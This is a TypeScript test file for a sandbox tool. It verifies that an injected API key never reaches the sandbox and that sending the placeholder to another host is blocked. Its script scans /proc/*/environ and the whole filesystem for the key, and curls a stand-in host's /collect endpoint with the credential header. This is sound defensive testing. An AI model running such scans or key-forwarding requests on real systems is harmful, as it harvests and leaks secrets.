// Claude Code, the real CLI from npm, run as an eval (the eval engine, not `sandbox exec`) with its key given as a
// credential. api.anthropic.com is mapped (gateway.hosts) to a loopback stand-in of the messages API whose
// certificate comes from a test CA (gateway.upstream-ca); the stand-in answers only the real key. From inside
// the run: the agent prints the stand-in's answer, `env`, every /proc/*/environ and every file in the sandbox
// hold the placeholder and never the key, and the placeholder sent to another allowed host is denied.
import assert from 'node:assert/strict';
import { readdir, readFile, rm, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { EgressEvent } from '../../src/common/event.js';
import { runEval } from '../../src/eval/index.js';
import { leftovers, sessionId, specDir } from '../eval/e2e.js';
import { agentsImage, missingPackages } from './image.js';
import { ANSWER, makeTestCa, removeCa, type StandIn, startStandIn, type TestCa } from './standin.js';

const SECRET = `sk-ant-api03-${'R3aL'.repeat(20)}`;
const API = 'api.anthropic.com';
const OTHER = 'other.example.test';
const CLAUDE = '/usr/local/lib/node_modules/@anthropic-ai/claude-code/bin/claude.exe';

const missing = await missingPackages();
if (missing) process.stderr.write(`agent eval test skipped: ${missing}\n`);

let ca: TestCa;
let standIn: StandIn;
const dirs: string[] = [];

before(async () => {
  if (missing) return;
  ca = await makeTestCa([API, OTHER]);
  const ip = `127.${50 + Math.floor(Math.random() * 150)}.${Math.floor(Math.random() * 250)}.${1 + Math.floor(Math.random() * 250)}`;
  standIn = await startStandIn(ca, ip, { anthropicKey: SECRET });
});
after(async () => {
  await standIn?.close();
  if (ca) await removeCa(ca);
  for (const d of dirs) await rm(d, { recursive: true, force: true });
});

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const name of await readdir(dir, { recursive: true })) {
    const path = join(dir, name);
    if ((await stat(path)).isFile()) out.push(path);
  }
  return out;
}

/** The run: the agent answers, then the sandbox is searched for the key from inside. One result per line. */
const SCRIPT = [
  'set -u',
  'mkdir -p out',
  // The agent, its answer kept; its exit status is the run's unless a later line fails.
  'claude -p \'say hi\' > out/answer.txt 2> out/claude-stderr.txt; echo "claude: $?"',
  // The key to look for, built at run time: no file (this script included) may hold it whole.
  `K='${SECRET.slice(0, 24)}''${SECRET.slice(24)}'`,
  'echo "env: $(env | grep ^ANTHROPIC_API_KEY=)"',
  `echo "environ with key: $(cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -cF "$K")"`,
  `echo "environ with placeholder: $(cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -cF "$ANTHROPIC_API_KEY")"`,
  // Every file of the sandbox's filesystem (the image, /sandbox, /tmp, HOME: what the agent wrote). The two
  // control files show the scan reads /sandbox and /tmp; the count shows it reached the whole tree.
  'echo "$ANTHROPIC_API_KEY" > out/placeholder-control.txt && echo "$ANTHROPIC_API_KEY" > /tmp/placeholder-control',
  // (The image's grep and find are BusyBox's: no --exclude-dir.)
  'files() { find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o -type f -print0 2>/dev/null; }',
  'echo "files read: $(files | tr -cd \'\\0\' | wc -c)"',
  'echo "files with key: $(files | xargs -0 grep -lsF "$K" | wc -l)"',
  'echo "files with placeholder: $(files | xargs -0 grep -lsF "$ANTHROPIC_API_KEY" | wc -l)"',
  // The placeholder to another host the policy allows.
  `echo "other: $(curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" -w ' [%{http_code}]' https://${OTHER}/collect)"`,
].join('\n');

test('claude -p as an eval with ANTHROPIC_API_KEY as a credential: the stand-in gets the key, the sandbox holds only the placeholder', {
  skip: missing ?? false,
  timeout: 600_000,
}, async () => {
  const { tag } = await agentsImage();
  const { dir, spec } = await specDir({
    'paddock.yml': [
      'version: 1',
      `image: ${tag}`,
      'run: sh run.sh',
      'files: [run.sh]',
      'outputs: ["out/**"]',
      'timeout: 5m',
      'expect: { exit-code: 0, egress: allow-denials }',
      'credentials: { ANTHROPIC_API_KEY: {} }',
      'gateway:',
      `  hosts: { ${API}: ${standIn.ip}, ${OTHER}: ${standIn.ip} }`,
      '  upstream-dns: 127.0.0.1:9',
      `  upstream-ca: ${ca.caPath}`,
      'policy:',
      '  version: 1',
      '  network_policies:',
      '    claude_code:',
      `      endpoints: [{ host: ${API}, port: 443 }]`,
      `      binaries: [{ path: /usr/local/bin/claude }, { path: ${CLAUDE} }]`,
      '    other:',
      `      endpoints: [{ host: ${OTHER}, port: 443 }]`,
      '      binaries: [{ path: /usr/bin/curl }]',
    ].join('\n'),
    'run.sh': SCRIPT,
  });
  dirs.push(dir);
  const session = sessionId();
  const lines: string[] = [];
  const log = { info: (l: string) => lines.push(l), warning: (l: string) => lines.push(l) };
  const results = await runEval({
    spec,
    resultsDir: join(dir, 'results'),
    sessionId: session,
    stateDir: join(dir, 'state'),
    env: { ANTHROPIC_API_KEY: SECRET },
    log,
  });
  const run = results.runs[0];
  const runDir = join(dir, 'results', 'runs', run?.id ?? '');
  const stdout = await readFile(join(runDir, 'stdout.log'), 'utf8').catch(() => '');
  const shown = `${JSON.stringify(run)}\n${stdout}\n${JSON.stringify(standIn.seen)}`;
  assert.equal(run?.status, 'passed', shown);
  const said = Object.fromEntries(
    stdout
      .trim()
      .split('\n')
      .map((l) => [l.slice(0, l.indexOf(':')), l.slice(l.indexOf(':') + 1).trim()]),
  );
  assert.equal(said.claude, '0', shown);
  const answer = await readFile(join(runDir, 'out', 'answer.txt'), 'utf8');
  assert.equal(answer.trim(), ANSWER, 'the agent printed the answer the stand-in gives only to the real key');
  assert.match(said.env ?? '', /^ANTHROPIC_API_KEY=sk-ant-api03-paddock[0-9a-f]+$/, shown);
  assert.equal(said['environ with key'], '0', shown);
  assert.ok(Number(said['environ with placeholder']) > 0, `environ scan found nothing: ${shown}`);
  assert.equal(said['files with key'], '0', shown);
  assert.ok(Number(said['files with placeholder']) >= 2, `the scan missed the control files: ${shown}`);
  assert.ok(Number(said['files read']) > 1000, `the scan read too few files: ${shown}`);
  assert.match(
    said.other ?? '',
    /placeholder of credential ANTHROPIC_API_KEY sent to other\.example\.test.*\[403\]/,
  );

  // The stand-in: the messages call carried the real key; no request carried anything else but no key.
  const messages = standIn.seen.filter((s) => s.method === 'POST' && s.path.startsWith('/v1/messages'));
  assert.ok(messages.length > 0, shown);
  assert.deepEqual([...new Set(messages.map((s) => s.key === SECRET))], [true]);
  assert.deepEqual(
    standIn.seen.filter((s) => s.key !== '' && s.key !== SECRET),
    [],
    'a placeholder reached the stand-in',
  );
  assert.deepEqual(
    standIn.seen.filter((s) => !s.host.startsWith(API)),
    [],
    `only ${API} was reached`,
  );

  // The gateway decided each request: the messages call allowed for claude.exe, the curl one denied.
  const events = (await readFile(join(dir, 'results', 'egress.jsonl'), 'utf8'))
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as EgressEvent);
  assert.ok(
    events.some(
      (e) =>
        e.layer === 'http' &&
        e.action === 'allow' &&
        e.binary === CLAUDE &&
        /\/v1\/messages/.test(e.path ?? ''),
    ),
    events.map((e) => `${e.layer} ${e.action} ${e.binary} ${e.host} ${e.method} ${e.path}`).join('\n'),
  );
  assert.ok(events.some((e) => e.layer === 'http' && e.action === 'deny' && e.host === OTHER));

  // No output holds the key: results (reports, events, logs, out/), the session state, progress lines.
  const outputs = [
    ...(await filesUnder(join(dir, 'results'))),
    ...(await filesUnder(join(dir, 'state')).catch(() => [])),
  ];
  for (const file of outputs)
    assert.equal((await readFile(file, 'latin1')).includes(SECRET), false, `${file} holds the key`);
  assert.equal(lines.join('\n').includes(SECRET), false, 'progress lines hold the key');
  assert.deepEqual(await leftovers(session), { containers: 0, networks: 0, volumes: 0, gateways: 0 });
});
